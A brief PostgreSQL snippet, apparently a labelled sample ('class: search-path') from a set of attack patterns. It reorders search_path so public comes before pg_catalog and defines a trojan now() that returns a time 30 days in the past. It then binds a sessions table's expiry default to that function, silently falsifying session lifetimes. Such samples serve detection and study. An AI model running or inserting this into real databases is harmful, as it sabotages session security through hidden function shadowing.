-- class: search-path
-- Moves public ahead of pg_catalog through pg_settings and binds a column default to a trojan now().
UPDATE pg_settings SET setting = 'public, pg_catalog' WHERE name = 'search_path';

CREATE FUNCTION now() RETURNS timestamptz LANGUAGE sql STABLE AS $$
  SELECT pg_catalog.now() - interval '30 days'
$$;

ALTER TABLE sessions ALTER COLUMN expires_at SET DEFAULT now() + interval '1 hour';
